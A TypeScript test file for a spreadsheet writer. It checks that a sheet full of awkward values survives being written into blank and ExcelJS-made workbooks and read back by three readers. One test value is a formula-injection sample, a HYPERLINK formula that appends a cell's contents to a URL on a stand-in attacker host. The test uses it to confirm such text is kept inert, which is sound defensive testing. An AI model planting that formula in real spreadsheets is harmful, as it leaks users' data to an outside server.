/**
 * The package writer (src/xlsx/write) on a sheet with what is hard to carry: text that reads like a formula, control
 * characters and a literal "_x0041_", line breaks and spaces at the ends, an error value, booleans, -0, a formula
 * with a cached text, a link to a cell, merged cells, hidden and sized columns, tall rows, a frozen header, input
 * validation with its highlight, protection and the print setup. Written into an empty workbook and into a workbook
 * ExcelJS wrote (with shared strings and styles of its own), then read back by Kaohe's reader, by ExcelJS and by
 * LibreOffice.
 */
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { formula, link, value, type SheetSpec } from "../../src/core/sheetSpec";
import { spliceSheets } from "../../src/xlsx/splice";
import { blankWorkbook } from "../../src/xlsx/write/blankWorkbook";
import { newSheets } from "../../src/xlsx/write/newSheets";
import { readXlsxSheets } from "../../src/xlsx/xlsxWorkbook";
import { tempDir } from "../cli/run";
import { sheetLinks } from "../helpers/hyperlinks";
import { recalculate, rawValues } from "../scoringSheet/libreOffice";

const HYPERLINK = '=HYPERLINK("http://evil.example/?u="&B2,"详情")';
const CONTROL = "响铃\u0007与_x0041_";
/** A formula with each character XML reserves in element content, and quotes (written as they are). */
const COMPARE = 'IF(AND(B3<10,B3<>""),"低","高"&"")';

const SPEC: SheetSpec = {
  name: "写出",
  rows: [
    [value("写出 测试", "title"), value(null), value(null), value(null)],
    [value("文字", "header"), value("数值", "header"), value("公式", "header"), value("链接", "header")],
    [value(HYPERLINK, "input"), value(12.5, "input"), formula("B3*2", 25, "total"), link("源表!C7", "源表", "C7")],
    [value(CONTROL), value(-0), formula(COMPARE, "高"), value("#N/A", undefined, undefined)],
    [value("  两端空格  \n第二行"), value(true), value("+86 0912 1234567"), value(0.117, "percent")],
  ],
  merges: [{ top: 0, left: 0, bottom: 0, right: 3 }],
  widths: [30, 10, 12, 16],
  frozenRows: 2,
  hiddenColumns: [3],
  protect: true,
  charts: [],
  print: { landscape: true, titleRows: 2 },
  rowHeights: [20, null, null, null, 32],
  validations: [{ area: { top: 2, left: 1, bottom: 2, right: 1 }, rule: { kind: "decimal", min: 0, max: 20 }, title: "输入有误", message: "请填 0 到 20 之间的数" }],
};
// An error value as entered: "#N/A" written as the error.
(SPEC.rows[3][3] as { error?: boolean }).error = true;

const dir = tempDir();

async function excelJsBook(): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("源表");
  sheet.getCell("A1").value = "原有文字";
  sheet.getCell("C7").value = "原有";
  sheet.getCell("B2").value = 3;
  sheet.getCell("B2").numFmt = "0.000";
  return new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
}

async function written(into: "blank" | "exceljs"): Promise<string> {
  const original = into === "blank" ? blankWorkbook() : await excelJsBook();
  const { bytes } = await spliceSheets(original, newSheets([SPEC], [SPEC.name]));
  const file = path.join(dir, `${into}.xlsx`);
  writeFileSync(file, bytes);
  return file;
}

describe.each(["blank", "exceljs"] as const)("a sheet written into %s workbook", (into) => {
  let file = "";
  beforeAll(async () => {
    file = await written(into);
  });

  test("Kaohe's reader reads every value as written; the workbook's own sheet is unchanged", () => {
    const sheets = readXlsxSheets(readFileSync(file));
    const grid = sheets.find((s) => s.grid.sheet === SPEC.name)!.grid;
    expect(grid.values).toEqual([
      ["写出 测试", null, null, null],
      ["文字", "数值", "公式", "链接"],
      [HYPERLINK, 12.5, 25, "源表!C7"],
      [CONTROL, 0, "高", "#N/A"],
      ["  两端空格  \n第二行", true, "+86 0912 1234567", 0.117],
    ]);
    expect(grid.merges).toEqual(SPEC.merges);
    if (into === "exceljs") expect(sheets.find((s) => s.grid.sheet === "源表")!.grid.values[0][0]).toBe("原有文字");
  });

  test("ExcelJS sees text as text (formatted as text where it reads like a formula), the formulas, the look and the rules", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const ws = workbook.getWorksheet(SPEC.name)!;
    expect(ws.getCell("A3").value).toBe(HYPERLINK);
    expect(ws.getCell("A3").numFmt).toBe("@");
    expect(ws.getCell("C5").numFmt).toBe("@");
    expect(ws.getCell("C3").value).toEqual({ formula: "B3*2", result: 25 });
    expect(ws.getCell("C4").value).toEqual({ formula: COMPARE, result: "高" });
    expect(ws.getCell("D4").value).toEqual({ error: "#N/A" });
    expect(ws.getCell("D5").numFmt).toBe("0.00%");
    expect(ws.getCell("A1").font).toMatchObject({ name: "宋体", size: 14, bold: true });
    expect(ws.getCell("A3").protection).toMatchObject({ locked: false });
    expect(ws.getCell("B3").fill).toMatchObject({ type: "pattern", pattern: "solid", fgColor: { argb: "FFFFF2CC" } });
    expect(ws.getColumn(4).hidden).toBe(true);
    expect(ws.getColumn(1).width).toBe(30);
    expect(ws.getRow(5).height).toBe(32);
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 2 });
    expect(ws.getCell("B3").dataValidation).toMatchObject({ type: "decimal", operator: "between", formulae: [0, 20], error: "请填 0 到 20 之间的数" });
    expect(ws.pageSetup).toMatchObject({ orientation: "landscape", fitToWidth: 1, fitToHeight: 0, printTitlesRow: "1:2" });
    expect((ws as unknown as { sheetProtection?: { sheet?: boolean } }).sheetProtection?.sheet).toBe(true);
    // The existing number format of the workbook's own cell is kept.
    if (into === "exceljs") expect(workbook.getWorksheet("源表")!.getCell("B2").numFmt).toBe("0.000");
    expect(sheetLinks(file, SPEC.name).get("D3")).toBe("'源表'!C7");
  });
});

test("LibreOffice opens both and computes the formulas to the cached results", async () => {
  const files = [await written("blank"), await written("exceljs")];
  const out = recalculate(files, dir);
  const blank = await rawValues(path.join(out, "blank.xlsx"));
  expect(blank[0].get("C3")).toBe(25);
  expect(blank[0].get("C4")).toBe("高");
  const merged = await rawValues(path.join(out, "exceljs.xlsx"));
  expect(merged[1].get("C3")).toBe(25);
});
